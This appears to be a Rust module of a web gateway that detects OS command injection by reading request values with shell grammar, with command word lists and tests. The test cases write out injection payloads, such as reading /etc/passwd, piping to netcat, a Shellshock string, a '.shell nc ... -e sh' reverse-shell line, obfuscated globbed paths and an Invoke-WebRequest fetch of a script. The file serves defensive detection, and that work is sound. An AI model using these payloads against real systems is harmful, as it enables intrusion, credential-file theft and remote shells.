//! OS command injection, read with shell grammar.
//!
//! The value is split where a shell would start a new command (`;`, `|`,
//! `&&`, `||`, `&`, newlines, `$(...)`, backquotes); the word in command
//! position is then looked up after undoing the quoting tricks shells accept
//! (`c''at`, `w\ho\ami`, `$IFS`). A command word only counts in command
//! position: "the cat sat" is text, "; cat /etc/passwd" is a command.

mod evasion;
mod expansions;
mod position;

use super::prose::{as_notice, reads_as_prose};
use super::Hit;
use evasion::hides_command_name;
use expansions::{batch_control_in_prose, shellshock, EXPANSION_STEPS};
use position::{command_in_position, command_in_prose};
use rampart_core::hash::FixedState;
use std::collections::HashSet;
use std::sync::OnceLock;

/// Commands that are not also common words: command position is enough.
const COMMANDS: &[&str] = &[
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "zless",
    "zgrep",
    "bsdtar",
    "perf",
    "ansible",
    "ansible-playbook",
    "chef",
    "knife",
    "puppet",
    "salt",
    "terraform",
    "nmap",
    "masscan",
    "hping3",
    "tshark",
    "tcpdump",
    "gdb",
    "objdump",
    "readelf",
    "ldd",
    "ltrace",
    "pkexec",
    "visudo",
    "usermod",
    "groupadd",
    "mount",
    "umount",
    "fdisk",
    "losetup",
    "insmod",
    "modprobe",
    "iptables",
    "systemctl",
    "journalctl",
    "dmesg",
    "lsmod",
    "lsblk",
    "blkid",
    "lsattr",
    "chattr",
    "setfacl",
    "getfacl",
    "cpio",
    "shred",
    "unshare",
    "nsenter",
    "capsh",
    "setcap",
    "getcap",
    "sshpass",
    "proxychains",
    "torsocks",
    "cscli",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "regedit",
    "reg",
    "schtasks",
    "systeminfo",
    "tasklist",
    "taskkill",
    "net",
    "chmod",
    "chown",
    "passwd",
    "useradd",
    "crontab",
    "nohup",
    "xterm",
    "socat",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "sudo",
    "su",
    "id",
    "ls",
    "dir",
    "cat",
    "tac",
    "rev",
    "nl",
    "xxd",
    "od",
    "base64",
    "env",
    "printenv",
    "ps",
    "kill",
    "pkill",
    "killall",
    "rm",
    "mv",
    "cp",
    "dd",
    "mkfifo",
    "mknod",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "find",
    "xargs",
    "tar",
    "zip",
    "unzip",
    "gcc",
    "cc",
    "make",
    "exec",
    "eval",
    "sleep",
    "ping",
    "echo",
    "printf",
    "head",
    "tail",
    "more",
    "less",
    "sort",
    "uniq",
    "wc",
    "cut",
    "tr",
    "whereis",
    "which",
    "type",
    "hostname",
    "uptime",
    "w",
    "who",
    "last",
    "history",
    "alias",
    "export",
    "set",
    "unset",
    "source",
    "column",
    "iwr",
    "iex",
    "irm",
    "invoke-webrequest",
    "invoke-expression",
    "invoke-restmethod",
    "start-process",
    "iwmi",
    "invoke-wmimethod",
    "get-content",
    "set-content",
    "new-object",
    "bcdboot",
    "bcdedit",
    "vssadmin",
    "wevtutil",
    "icacls",
    "attrib",
    "copy",
    "del",
    "type",
    "more",
    "findstr",
    "fsutil",
    "diskpart",
    "cscript",
    "wscript",
    "msiexec",
    "forfiles",
    "at",
    "timeout",
    "dig",
    "host",
    "arp",
    "route",
    "traceroute",
    "tracert",
    "getent",
    "lsof",
    "strace",
    "java",
    "javac",
    "jrunscript",
    "c99",
    "c89",
    "ed",
    "vi",
    "vim",
    "nano",
    "openssl",
    "apt",
    "apt-get",
    "irb",
    "gunzip",
    "gzip",
    "bzip2",
    "xz",
    "unxz",
    "7z",
    "flock",
    "cpulimit",
    "nice",
    "ionice",
    "setsid",
    "stdbuf",
    "timeout",
    "watch",
    "taskset",
    "strings",
    "file",
    "stat",
    "tee",
    "mail",
    "sendmail",
    "rsync",
    "aria2c",
    "lynx",
    "links",
    "w3m",
    "fetch",
    "runuser",
    "pkexec",
    "doas",
    "awk",
    "mawk",
    "nawk",
    "jjs",
    "jshell",
    "groovy",
    "scala",
    "php-cgi",
    "rbash",
    "yum",
    "pip",
    "npm",
    "git",
    "docker",
    "kubectl",
    "mysql",
    "psql",
    "sqlite3",
    "tclsh",
    "expect",
    "script",
    "screen",
    "tmux",
    "time",
    "timeout",
    "chroot",
    "ln",
    "touch",
    "mkdir",
    "rmdir",
    "cd",
    "pwd",
    "true",
    "false",
    "test",
    "read",
    "wait",
    "exit",
    "logout",
    "shutdown",
    "reboot",
    "halt",
    "init",
];

/// Commands that are also everyday words: they need shell-looking arguments.
const WORDLIKE: &[&str] = &[
    "mail", "watch", "file", "stat", "tee", "fetch", "links", "strings", "nice", "salt", "chef",
    "knife", "puppet", "mount", "zip", "tar", "column", "shred", "touch", "copy", "host", "dig",
    "route", "type", "find", "sort", "cat", "more", "less", "find", "sort", "head", "tail", "echo",
    "date", "time", "kill", "touch", "wait", "sleep", "ping", "which", "who", "w", "type", "set",
    "env", "id", "net", "reg", "at", "host", "route", "test", "true", "false", "read", "exit",
    "copy", "del", "dir", "ls", "make", "cut", "tr", "ed", "nl", "od", "w", "last", "history",
    "source", "script", "screen", "expect", "init", "halt", "column", "cd", "ln", "su", "cc",
    "tac", "rev", "uniq", "wc", "at", "git", "node", "java", "ftp", "apt", "pip", "npm", "ruby",
    "python", "perl", "lua", "php", "printf", "eval", "exec", "alias", "export", "unset", "mv",
    "cp", "rm", "dd", "ps",
];

/// Reconnaissance commands whose names are not words: alone, they are a probe.
const RECON: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "printenv",
    "getent",
    "nslookup",
];

/// Commands that run the command that follows them.
const WRAPPERS: &[&str] = &[
    "time", "nohup", "strace", "ltrace", "nice", "ionice", "sudo", "doas", "env", "timeout",
    "xargs", "exec", "command", "builtin", "setsid", "stdbuf", "taskset", "chroot", "watch",
    "flock", "cpulimit", "busybox", "runuser", "su",
];

/// A word list as a set: built once, looked up with request text only, so
/// an unkeyed hash is safe (see `rampart_core::hash`); SipHash here was 4 %
/// of the gateway's CPU on JSON POSTs.
type WordSet = HashSet<&'static str, FixedState>;

/// Membership in a word list, through a set built once (the lists are
/// consulted for every value; a linear scan dominated the profile).
fn in_set(set: &'static OnceLock<WordSet>, list: &'static [&'static str], word: &str) -> bool {
    set.get_or_init(|| list.iter().copied().collect())
        .contains(word)
}

fn is_command(word: &str) -> bool {
    static SET: OnceLock<WordSet> = OnceLock::new();
    in_set(&SET, COMMANDS, word)
}

fn is_wordlike(word: &str) -> bool {
    static SET: OnceLock<WordSet> = OnceLock::new();
    in_set(&SET, WORDLIKE, word)
}

fn is_wrapper(word: &str) -> bool {
    static SET: OnceLock<WordSet> = OnceLock::new();
    in_set(&SET, WRAPPERS, word)
}

/// Undoes quoting tricks inside words: `c''at`, `w"h"oami`, `c\at`, `$IFS`, `$@`.
fn unquote(s: &str) -> String {
    // Each expansion below starts with one of these; most values hold none.
    let s = if s.contains(['$', '`', '<', '>']) {
        s.replace("${ifs}", " ")
            .replace("$ifs", " ")
            .replace("$@", "")
            .replace("$*", "")
            .replace("$!", "")
            .replace("$$", "")
            .replace("``", "")
            .replace("$()", "")
            .replace("<()", "")
            .replace(">()", "")
    } else {
        s.to_owned()
    };
    // Single-character classes select that character: `/bi[n]/ba[s]h`.
    let b = s.as_bytes();
    let mut unclassed = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'['
            && b.get(i + 2) == Some(&b']')
            && b[i + 1].is_ascii_alphanumeric()
            && i > 0
            && b[i - 1] != b'$'
        {
            unclassed.push(char::from(b[i + 1]));
            i += 3;
            continue;
        }
        let ch = s[i..].chars().next().unwrap_or(' ');
        unclassed.push(ch);
        i += ch.len_utf8();
    }
    let s = unclassed;
    // A variable expanded inside a word (`uname$u`) is usually empty.
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    let mut prev_alnum = false;
    while let Some(c) = chars.next() {
        if c == '$' && prev_alnum && chars.peek().is_some_and(|n| n.is_ascii_lowercase()) {
            while chars
                .peek()
                .is_some_and(|n| n.is_ascii_alphanumeric() || *n == '_')
            {
                chars.next();
            }
            continue;
        }
        prev_alnum = c.is_ascii_alphanumeric();
        out.push(c);
    }
    let s = out;
    let is_quote = |c: u8| matches!(c, b'\'' | b'"' | b'\\');
    let word_or_quote = |c: u8| c.is_ascii_alphanumeric() || is_quote(c);
    let b = s.as_bytes();
    let kept: Vec<u8> = b
        .iter()
        .enumerate()
        .filter(|&(i, &c)| {
            let inside_word =
                i > 0 && word_or_quote(b[i - 1]) && b.get(i + 1).is_some_and(|&n| word_or_quote(n));
            !(is_quote(c) && inside_word)
        })
        .map(|(_, &c)| c)
        .collect();
    String::from_utf8_lossy(&kept).into_owned()
}

/// Dot-commands of the `sqlite3` shell that reach the operating system or
/// the file system; the shell accepts any unambiguous prefix of `.shell`
/// and `.system`.
fn is_sqlite_dot_command(segment: &str) -> bool {
    let Some(rest) = segment.strip_prefix('.') else {
        return false;
    };
    let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
    let (name, after) = rest.split_at(name_len);
    if !(after.is_empty() || after.starts_with([' ', '\n'])) {
        return false;
    }
    name.len() >= 2 && ("shell".starts_with(name) || "system".starts_with(name))
        || matches!(
            name,
            "databases"
                | "tables"
                | "dump"
                | "import"
                | "output"
                | "once"
                | "load"
                | "read"
                | "open"
        )
}

/// Assignments read when looking for a command assembled from variables.
const MAX_ASSIGNMENTS: usize = 32;

/// `a=/etc&&b=/passwd&&c=cat&&$c $a$b`, `c1=c;c2=at;$c1$c2 /etc/passwd`: the
/// value assigns shell variables and then runs one in command position, so
/// no command name is ever written out.
fn runs_assembled_command(s: &str, starts: &[(usize, bool)]) -> bool {
    let mut assigned: Vec<&str> = Vec::new();
    for &(start, _) in starts {
        let segment = s[start..].trim_start_matches([' ', '&', '|', ';', '\n']);
        let name_len = segment
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        if name_len > 0 && segment[name_len..].starts_with('=') {
            if assigned.len() < MAX_ASSIGNMENTS {
                assigned.push(&segment[..name_len]);
            }
            continue;
        }
        if let Some(expanded) = segment.strip_prefix('$') {
            let expanded = expanded.strip_prefix('{').unwrap_or(expanded);
            let used_len = expanded
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                .count();
            if used_len > 0 && assigned.contains(&&expanded[..used_len]) {
                return true;
            }
        }
    }
    false
}

/// The first words of a `cmd.exe` condition, a `"quoted string"` being one.
fn batch_words(s: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut rest = s.trim_start();
    while words.len() < 3 && !rest.is_empty() {
        // A quoted part may hold spaces; the word goes on to the next space.
        let unquoted_from = match rest.strip_prefix('"') {
            Some(quoted) => quoted.find('"').map_or(rest.len(), |i| i + 2),
            None => 0,
        };
        let end = rest[unquoted_from..]
            .find(char::is_whitespace)
            .map_or(rest.len(), |i| unquoted_from + i);
        words.push(&rest[..end]);
        rest = rest[end..].trim_start();
    }
    words
}

fn is_separator(c: char) -> bool {
    matches!(c, ';' | '|' | '&' | '\n' | '`')
}

/// Whether `args` look like shell arguments rather than prose.
fn shell_args(args: &str) -> bool {
    let args = args.trim_start();
    args.is_empty()
        || args.starts_with([
            '-', '/', '$', '~', '.', '>', '<', '|', '*', '\\', '%', '\'', '"', ';', '&',
        ])
        || args
            .split_whitespace()
            .next()
            .is_some_and(|w| w.contains('/') || w.contains('.') || w.contains('='))
        || has_option(args)
}

/// Whether the first argument is an option and nothing but one (`-t`,
/// `--version`, `--url=x`), not `-h:` or `--` in a sentence.
fn starts_with_clean_option(args: &str) -> bool {
    let Some(first) = args.split_whitespace().next() else {
        return false;
    };
    let name = first.trim_start_matches('-');
    let name = name.split('=').next().unwrap_or(name);
    first.starts_with('-')
        && first.len() - first.trim_start_matches('-').len() <= 2
        && name.bytes().next().is_some_and(|b| b.is_ascii_alphabetic())
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

/// Whether one of the first arguments is an option (`-m`, `--list`).
fn has_option(args: &str) -> bool {
    args.split_whitespace().take(3).any(|w| {
        w.len() > 1
            && w.starts_with('-')
            && w.trim_start_matches('-')
                .bytes()
                .next()
                .is_some_and(|b| b.is_ascii_alphabetic())
    })
}

fn command_word(segment: &str) -> (&str, &str) {
    let segment = segment.trim_start_matches([' ', '$', '(', '{', '!', '@']);
    let end = segment
        .find(|c: char| {
            c == ' ' || is_separator(c) || matches!(c, '<' | '>' | '(' | ')' | '{' | '}')
        })
        .unwrap_or(segment.len());
    let word = &segment[..end];
    // `/usr/bin/perl` runs `perl`; `text/cmd` is not a path to run.
    let word = word.trim_matches(['\'', '"']);
    let word = if word.starts_with('/') || word.starts_with("./") {
        word.rsplit('/').next().unwrap_or(word)
    } else {
        word
    };
    (word, &segment[end..])
}

/// Whether the value's first word is a command (or a Windows `if`/`for`):
/// the cheap test that decides whether the shell reading runs at all.
pub fn starts_with_command(folded: &str) -> bool {
    let (raw, args) = command_word(folded.trim_start_matches(['\'', '"', ' ', '\\']));
    let word = raw.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    is_command(raw)
        || is_command(word)
        || raw
            .split_once('-')
            .is_some_and(|(tool, _)| is_command(tool) && (!is_wordlike(tool) || has_option(args)))
        || is_wrapper(word)
        || word == "if"
        || word.starts_with("if/")
        || word == "for"
        || word.starts_with('/')
}

/// Looks for command injection in a folded (lower-case) value.
pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
    let Some(hit) = find_command(folded, text) else {
        return;
    };
    // Asked only once something is found: clean values pay nothing.
    if reads_as_prose(text) && !holds_in_prose(&hit, &shell_text(folded, text)) {
        hits.push(as_notice(hit));
    } else {
        hits.push(hit);
    }
}

/// The value as the shell reads it: folded (with the line breaks that
/// folding collapses put back) and with quoting tricks undone.
fn shell_text(folded: &str, text: &str) -> String {
    if text.contains(['\n', '\r']) {
        unquote(&text.to_lowercase().replace('\r', "\n"))
    } else {
        unquote(folded)
    }
}

/// The first finding of the named steps: Shellshock, the shell's
/// expansions, a command name hidden by quoting, then a command in command
/// position.
fn find_command(folded: &str, text: &str) -> Option<Hit> {
    if let Some(hit) = shellshock(folded) {
        return Some(hit);
    }
    let s = shell_text(folded, text);
    EXPANSION_STEPS
        .iter()
        .find_map(|step| step(&s))
        .or_else(|| {
            hides_command_name(folded).then(|| Hit::new("cmdi.obfuscated_command", 5.0, 0.85, 1))
        })
        .or_else(|| command_in_position(&s))
}

/// Whether a finding in a value that reads as prose is one prose cannot
/// produce. Substitutions, Shellshock, globbed or assembled commands and
/// hidden command names never occur in a sentence; a command word does
/// ("kill the process; then try kill -9"), so it holds only as a known
/// command after a separator or under a binary directory (see
/// [`command_in_prose`]); a `cmd.exe` condition unless it is a C-like
/// test a code review quotes; `~+`, `alias x=` and `!-1` are notices.
fn holds_in_prose(hit: &Hit, s: &str) -> bool {
    // `;"the quick brown fox"`, `| some words`: a value that opens by
    // ending a command; no sentence starts with a separator.
    if s.trim_start().starts_with(is_separator) {
        return true;
    }
    match hit.rule {
        "cmdi.command" => command_in_prose(s),
        "cmdi.windows_for_loop" => batch_control_in_prose(s),
        "cmdi.tilde_expansion" | "cmdi.alias" | "cmdi.history_expansion" => false,
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(s: &str) -> bool {
        super::super::fires(detect, s)
    }

    #[test]
    fn catches_commands_in_command_position() {
        for attack in [
            ";cat /etc/passwd",
            "$(whoami)",
            "x | nc 10.0.0.1 4444",
            "() { :;}; /bin/sh -c \"sleep 6\"",
            "cat /etc/passwd",
            "/usr/bin/perl -e 'print readline' some-file.txt",
            "{l,-lh}s",
            "w'h'o'am'i",
            ";ps",
            "&& ping -n 3 127.0.0.1",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            "www.example.com;/bin/ca? /et*/passwd",
            "1;.sh whoami",
            ";\n.shell nc 10.10.10.1 6666 -e sh\n",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "pi$()ng 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "ping`` 127.0.0.1",
            "py''thon -c \"print('x')\"",
            "\\ls",
            "chef-client -t 1.1.1.1",
            "env --version",
            "if/i a==b foo",
            "{,$'whoami',}",
            "{/?s?/?i?/c?t,/e??/p??s??,}",
            "/???/??t /???/p??s??",
        ] {
            assert!(fires(attack), "missed: {attack}");
        }
    }

    #[test]
    fn stays_quiet_on_prose() {
        for benign in [
            "the cat sat on the mat",
            "Tom & Jerry; sort of funny",
            "I find it hard to sleep (sometimes)",
            "Fish & chips | mushy peas",
            "Wait for me",
            "Balanced fault-tolerant strategy",
            "see docs/bin/what?",
            "It's a trap; .5 of them agreed",
            "a=1&b=2; total $5",
            "I'd say it''s fine",
            "rock -- and roll",
            "fix a deadlock on &net->sctp.addr_wq_lock",
            "fetch-pack: add --no-filter",
            "git-clone --shared should imply --local",
            "Make --with-origin the default for syncing.",
            "- Add column formatting to ``pip list``.",
            "/docs/*/index.html",
            "{\"a\",\"b\"}",
        ] {
            assert!(!fires(benign), "false positive: {benign}");
        }
    }
}
